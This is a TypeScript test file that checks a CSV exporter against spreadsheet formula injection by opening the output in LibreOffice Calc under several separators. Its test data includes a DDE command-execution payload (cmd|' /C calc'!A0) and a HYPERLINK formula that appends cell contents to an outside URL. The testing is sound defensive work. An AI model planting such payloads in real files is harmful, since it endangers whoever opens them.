import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { csvFile, type CsvDelimiter } from '../../src/model/csv.js';
import { runInSlices } from '../../src/model/slices.js';
import { findCalc, openInCalc } from '../support/calc.js';

const delimiters: readonly CsvDelimiter[] = [',', ';', '\t'];
const readings = [...delimiters, delimiters.join('')];

const calc = findCalc();

/** What callers might call themselves to have something computed. */
const texts = [
  '=1+1',
  'x\n=1+1;y',
  'x\n=1+1,y',
  'x\r=1+1\ty',
  '\0=1+1',
  ';\0=1+1',
  'a;"=1+1',
  'a;"\t=1+1',
  '"\n"=1+1',
  ...fc.sample(
    fc
      .array(fc.constantFrom('"', ',', ';', '\t', '\n', '\r\n', '\0', ' ', '=1+1', '=1', 'a', '-1'), {
        maxLength: 8,
      })
      .map((all) => all.join('')),
    { numRuns: 500, seed: 11 },
  ),
];

/** Texts that stay as they are in every cell that a spreadsheet shows. */
const harmless = [
  '+359 88 123',
  '@ann',
  '-',
  '- b',
  'a; -b',
  '+1 (555) 123-4567',
  'Müller, "Zoë"',
  '山田 太郎',
];

/** Cells that make a formula together, to a spreadsheet that splits elsewhere. */
const together: readonly string[][] = [
  ['=', 'HYPERLINK("https://example.org/"&A1)'],
  ['=', '1+1'],
  ['', '=', 'a'],
  ['-', 'A1+1'],
  ['+', `cmd|' /C calc'!A0`],
  ['@', 'SUM(1+1)'],
  ['-5', '*A1'],
  ['-12.5', '-2'],
  ['-1', '5+1'],
  ...fc.sample(
    fc.array(fc.constantFrom('', '-', '=', '+', '-1', '5', '5+1', '(2)', '*A1', '%', '"a"', ';', '\n'), {
      minLength: 2,
      maxLength: 4,
    }),
    { numRuns: 500, seed: 11 },
  ),
];

const rows = [
  ...[...texts, ...harmless].map((text, n) => [`id-${n}`, text, texts[n % 50]!, 'end']),
  ...together,
];

async function written(delimiter: CsvDelimiter): Promise<string> {
  const table = {
    about: [],
    head: ['ID', 'From', 'To', 'End'],
    length: rows.length,
    rowAt: (n: number) => rows[n]!,
  };
  // A Blob's text is without the mark.
  return `\uFEFF${await (await runInSlices(csvFile(table, delimiter))).text()}`;
}

test(
  'LibreOffice computes nothing in a file, whichever separator it splits at, and shows every row',
  { skip: !calc && 'LibreOffice is not installed on this machine (no soffice): not tried.' },
  async () => {
    const files = await Promise.all(
      delimiters.map(async (delimiter) => ({ delimiter, file: await written(delimiter) })),
    );
    const opened = files.flatMap(({ file, delimiter }) =>
      readings.map((separators) => ({ file, delimiter, separators })),
    );
    const control = { file: '\uFEFFid,"x\n=1+1;y",end\r\n', separators: ';' };
    const split = { file: '\uFEFFid\r\n=\t1+1\r\n', separators: ',' };
    const [computed, computedTogether, ...sheets] = await openInCalc(calc!, [control, split, ...opened]);
    assert.deepEqual(
      computedTogether?.[1]?.map(({ text }) => text),
      ['2'],
    );
    assert.deepEqual(computed, [
      [{ text: 'id,"x' }],
      [{ text: '2', formula: 'of:=1+1' }, { text: 'y",end' }],
    ]);

    sheets.forEach((sheet, n) => {
      const { delimiter, separators } = opened[n]!;
      const name = JSON.stringify({ delimiter, separators });
      assert.deepEqual(
        sheet.flat().filter(({ formula }) => formula !== undefined),
        [],
        name,
      );
      // Split as it was written, it has a row for each and the texts in their column.
      if (!separators.includes(delimiter)) return;
      assert.deepEqual(
        sheet
          .slice(1 + texts.length, 1 + texts.length + harmless.length)
          .map(([id, text]) => [id?.text, text?.text]),
        harmless.map((text, index) => [`id-${texts.length + index}`, text]),
        name,
      );
    });
  },
);
